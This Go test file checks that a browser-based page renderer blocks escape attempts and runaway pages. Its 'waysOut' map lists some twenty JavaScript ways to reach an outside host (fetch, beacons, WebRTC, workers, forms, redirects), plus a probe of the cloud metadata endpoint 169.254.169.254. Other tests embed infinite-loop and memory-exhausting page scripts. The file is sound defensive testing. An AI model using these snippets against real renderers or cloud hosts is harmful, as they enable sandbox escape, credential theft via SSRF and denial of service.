package render

import (
	"maps"
	"net"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/webrace/webrace/pipeline"
)

// spy listens on an address that no page may reach, by TCP and UDP, and counts what arrives.
func spy(t *testing.T) (address string, arrived *atomic.Int64) {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skip("no second loopback address: ", err)
	}
	udp, err := net.ListenPacket("udp", tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	arrived = new(atomic.Int64)
	done := make(chan struct{}, 2)
	go func() {
		defer func() { done <- struct{}{} }()
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return
			}
			arrived.Add(1)
			conn.Close()
		}
	}()
	go func() {
		defer func() { done <- struct{}{} }()
		for p := make([]byte, 2000); ; {
			if _, _, err := udp.ReadFrom(p); err != nil {
				return
			}
			arrived.Add(1)
		}
	}()
	t.Cleanup(func() { tcp.Close(); udp.Close(); <-done; <-done })
	return tcp.Addr().String(), arrived
}

// waysOut are scripts that try to reach an address past the interception. Each reports at its end that it was
// there.
var waysOut = map[string]string{
	"fetch":        `await fetch("http://SPY/fetch", {mode: "no-cors"}).catch(() => {})`,
	"xhr":          `try { const r = new XMLHttpRequest(); r.open("GET", "http://SPY/xhr", false); r.send() } catch (e) {}`,
	"image":        `new Image().src = "http://SPY/image"`,
	"beacon":       `navigator.sendBeacon("http://SPY/beacon", "x")`,
	"event source": `new EventSource("http://SPY/events")`,
	"websocket":    `await new Promise(r => { const s = new WebSocket("ws://SPY/"); s.onerror = s.onopen = r })`,
	"frame":        `document.body.append(Object.assign(document.createElement("iframe"), {src: "http://SPY/frame"}))`,
	"frame of a script": `const f = document.createElement("iframe"); f.srcdoc = "<script src=http://SPY/a.js></scr" + "ipt>"; document.body.append(f);
		await new Promise(r => f.onload = r)`,
	"prefetch": `for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload", "manifest", "icon"])
		document.head.append(Object.assign(document.createElement("link"), {rel, href: "http://SPY/" + rel, as: "script"}))`,
	"worker": `const w = new Worker(URL.createObjectURL(new Blob(
		['fetch("http://SPY/worker", {mode: "no-cors"}).then(() => postMessage(1), () => postMessage(2))'])));
		await new Promise(r => w.onmessage = w.onerror = r)`,
	"shared worker": `const w = new SharedWorker(URL.createObjectURL(new Blob(
		['onconnect = e => fetch("http://SPY/shared", {mode: "no-cors"}).then(() => e.ports[0].postMessage(1), () => e.ports[0].postMessage(2))'])));
		await new Promise(r => { w.port.onmessage = w.onerror = r })`,
	"service worker": `await navigator.serviceWorker.register("/sw.js").catch(() => {})`,
	"window":         `window.open("http://SPY/window")`,
	"form": `const f = Object.assign(document.createElement("form"), {action: "http://SPY/form", method: "post", target: "_blank"});
		document.body.append(f); f.submit()`,
	"download": `const a = Object.assign(document.createElement("a"), {href: "http://SPY/download", download: "x"}); document.body.append(a); a.click()`,
	"ping":     `const a = Object.assign(document.createElement("a"), {href: "#x", ping: "http://SPY/ping"}); document.body.append(a); a.click()`,
	"webrtc": `const c = new RTCPeerConnection({iceServers: [{urls: "stun:SPY"}, {urls: "turn:SPY?transport=tcp", username: "u", credential: "c"}]});
		c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer());
		await Promise.race([new Promise(r => c.onicegatheringstatechange = () => c.iceGatheringState == "complete" && r()), new Promise(r => setTimeout(r, 1000))])`,
	"web transport": `try { await Promise.race([new WebTransport("https://SPY/").ready, new Promise(r => setTimeout(r, 500))]) } catch (e) {}`,
	"redirect":      `await fetch("/redirect").catch(() => {})`,
	"metadata":      `await fetch("http://169.254.169.254/latest/meta-data/").catch(() => {})`,
}

// TestNoPageReachesWhatItMayNot lets pages try all that browsers can.
func TestNoPageReachesWhatItMayNot(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser computes: not in short mode")
	}
	t.Parallel()
	address, arrived := spy(t)
	s := newSite(t).script("/sw.js", "").serve("/robots.txt", "text/plain", "")
	s.pages["/redirect"] = redirectTo("http://" + address + "/redirected")
	paths := []string{"/0", "/1", "/2", "/3"}
	scripts := make(map[string]string)
	tried := make(map[string][]string)
	for i, name := range slices.Sorted(maps.Keys(waysOut)) {
		path := paths[i%len(paths)]
		mark := "[tried " + name + "]"
		tried[path] = append(tried[path], mark)
		scripts[path] += "try { " + strings.ReplaceAll(waysOut[name], "SPY", address) + "} catch (e) { out.innerHTML += e }; out.innerHTML += '" + mark + "';\n"
	}
	for path, script := range scripts {
		s.page(path, "<body><p id=out></p><script type=module>"+script+"</script>")
	}
	f, o := fetching(), local(t)
	f.AllowNetworks = []string{"127.0.0.1"}
	o.AllowHosts = []string{"127.0.0.2", address, "169.254.169.254"} // so that the guard alone decides
	o.Load = loadable
	got, err := runWith(t, f, o, s, paths...)
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range paths {
		got.shows(t, path, tried[path])
	}
	if n := arrived.Load(); n > 0 {
		t.Errorf("%d connections or packets arrived", n)
	}
	got.wants(t, map[string]int64{"failed": 0, "browser_crashes": 0, "blocked_websocket": 1})
	if got.counters["blocked_address"] < 4 { // fetch, xhr, image, redirect, metadata at least
		t.Errorf("the guard refused %d requests", got.counters["blocked_address"])
	}
	if s.times("GET /sw.js") > 0 {
		t.Error("the service worker was loaded")
	}

	o.AllowHosts = nil
	s.page("/elsewhere", `<script type=module>`+strings.ReplaceAll(waysOut["fetch"], "SPY", address)+";"+waysOut["metadata"]+`</script>`)
	got, err = runWith(t, f, o, s, "/elsewhere")
	if err != nil {
		t.Fatal(err)
	}
	got.wants(t, map[string]int64{"blocked_site": 2, "blocked_address": 0, "rendered": 1})
}

func TestPagesThatNeverEndAreTakenAsTheyAre(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser waits: not in short mode")
	}
	t.Parallel()
	s := newSite(t).
		page("/loop", `<p>before</p><script>for (;;) {}</script>`).
		page("/timers", `<p>before</p><script>setInterval(() => { const end = Date.now() + 50; while (Date.now() < end); }, 1); fetch("/slow")</script>`).
		page("/log", `<p>before</p><script>for (;;) console.log("x".repeat(100000))</script>`).
		page("/promises", `<p>before</p><script>(function again() { Promise.resolve().then(again) })()</script>`)
	o := local(t)
	o.Timeout = pipeline.Duration(2 * time.Second)
	paths := []string{"/loop", "/log", "/promises"}
	got := run(t, o, s, append(paths, "/timers")...)
	for _, path := range paths {
		if !strings.Contains(got.bodies[path], "<p>before</p>") {
			t.Errorf("%s was lost: %q", path, got.bodies[path])
		}
	}
	got.shows(t, "/loop", []string{"<p>before</p>"})
	got.wants(t, map[string]int64{"browser_crashes": 0})
	if got.counters["timeouts"] < int64(len(paths)) || got.counters["rendered"]+got.counters["failed"] != 4 {
		t.Errorf("of 4 pages, of which 3 never end: %v", got.counters)
	}
}

func TestRequestsWithoutEndAreCutOff(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser computes: not in short mode")
	}
	t.Parallel()
	s := newSite(t).
		page("/one-by-one", `<p>before</p><script>(async () => { for (let i = 0;; i++) await fetch("/data?" + i).catch(() => {}) })()</script>`).
		page("/at-once", `<p>before</p><script>for (let i = 0; i < 3000; i++) fetch("/data?" + i)</script>`).
		serve("/data", "text/plain", "data")
	o := local(t)
	o.MaxRequests = 5
	got := run(t, o, s, "/one-by-one", "/at-once")
	got.shows(t, "/one-by-one", []string{"<p>before</p>"})
	got.shows(t, "/at-once", []string{"<p>before</p>"})
	got.wants(t, map[string]int64{"requests": 10, "timeouts": 0})
	if n := s.times("GET /data"); n != 10 {
		t.Errorf("the server was asked %d times, want 10", n)
	}
	if got.counters["blocked_limit"] < 100 {
		t.Errorf("refused %d requests", got.counters["blocked_limit"])
	}
}

func TestAPageThatNeedsTooMuchMemoryIsGivenUp(t *testing.T) {
	if testing.Short() {
		t.Skip("a browser computes: not in short mode")
	}
	t.Parallel()
	s := newSite(t).page("/", `<p>before</p><script>
		const all = []; (function more() { for (let i = 0; i < 20; i++) all.push(new Uint8Array(1 << 20).fill(i)); setTimeout(more) })()</script>`).
		page("/next", `<script>document.write("made")</script>`)
	o := local(t)
	o.MaxMemory = 400 << 20
	o.Selector = "#never" // so that nothing but memory ends it
	got := run(t, o, s, "/")
	got.wants(t, map[string]int64{"over_memory": 1, "failed": 1, "browser_crashes": 0, "rendered": 0})
	if d := got.documents["/"]; d.Rendered || !strings.Contains(got.bodies["/"], "<p>before</p><script>") {
		t.Errorf("it is not as it was fetched: %.200q", got.bodies["/"])
	}
}
